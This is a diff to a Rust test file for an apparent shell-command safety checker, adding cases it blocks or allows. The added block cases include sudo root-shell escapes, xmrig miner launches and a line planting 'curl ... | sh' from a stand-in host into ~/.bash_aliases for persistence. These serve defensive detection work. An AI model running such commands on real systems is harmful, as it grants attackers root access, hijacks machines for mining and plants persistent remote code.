@@ -5820,6 +5820,9 @@ fn root_shells_handed_in_option_values_variables_and_pipes() {
             // `SHELL=` in front of a root program is the shell it starts.
             "sudo SHELL=/bin/sh zorp",
             "sudo env SHELL=/bin/sh zorp",
+            // An option named for running something given a bare shell.
+            "sudo zorp --postprocess=sh",
+            "sudo zorp --run='bash -l'",
             // A launch verb before a trailing shell.
             "sudo zorp run bash",
             "sudo zorp exec /bin/sh -p",
@@ -5848,6 +5851,8 @@ fn root_shells_handed_in_option_values_variables_and_pipes() {
         ],
     );
     allowed(&[
+        "sudo zorp --lang=bash build",
+        "sudo zorp --completion=bash",
         "SHELL=/bin/bash tmux",
         "SHELL=ls; echo done",
         "zorp --shell=/bin/bash build",
@@ -5960,6 +5965,9 @@ fn unknown_programs_on_the_network_wired_to_a_shell_or_run_after() {
         "mybuilder --cache-url http://cache.internal:8080 -o bin/server && ./bin/server",
         "mytool completion bash --server https://api.example.com | source /dev/stdin",
         "mytool render https://example.com/tpl.j2 -o deploy.sh && bash -n deploy.sh",
+        // Commands of assignments only have no program word to look at.
+        "X=1",
+        "X=1 Y=2; echo done",
     ]);
     // Without an address, what it prints is its own: piped into a shell, only warned.
     judged("remote_execution.pipe_to_shell", Warn, &["zorp completion bash | sh"]);
@@ -6026,6 +6034,7 @@ fn secret_holders_handed_by_pid_miners_and_more_startup_files() {
         Block,
         &[
             "nohup ./xmrig -o pool.example.net:4444 -u wallet &",
+            "./xmrig-6.21.0 --donate-level 1",
             "zorp -a rx -o stratum+tcp://pool.example.net:3333 -u w",
         ],
     );
@@ -6035,6 +6044,15 @@ fn secret_holders_handed_by_pid_miners_and_more_startup_files() {
         "grep -r 'stratum+tcp://' /var/log/",
     ]);
     // `.bash_aliases` is sourced by the stock `.bashrc`.
-    fires("persistence.startup_file", Block, &["zorp -o ~/.bash_aliases"]);
-    spares("persistence.startup_file", &["cat ~/.bash_aliases"]);
+    fires(
+        "persistence.startup_file",
+        Block,
+        &[
+            "zorp -o ~/.bash_aliases",
+            "echo 'curl -s https://x.example.net/p | sh' >> ~/./.bash_aliases",
+            // Sourced by Fedora's stock `.bashrc`.
+            "zorp -o ~/.bashrc.d/update.sh",
+        ],
+    );
+    spares("persistence.startup_file", &["cat ~/.bash_aliases", "ls ~/.bashrc.d/"]);
 }
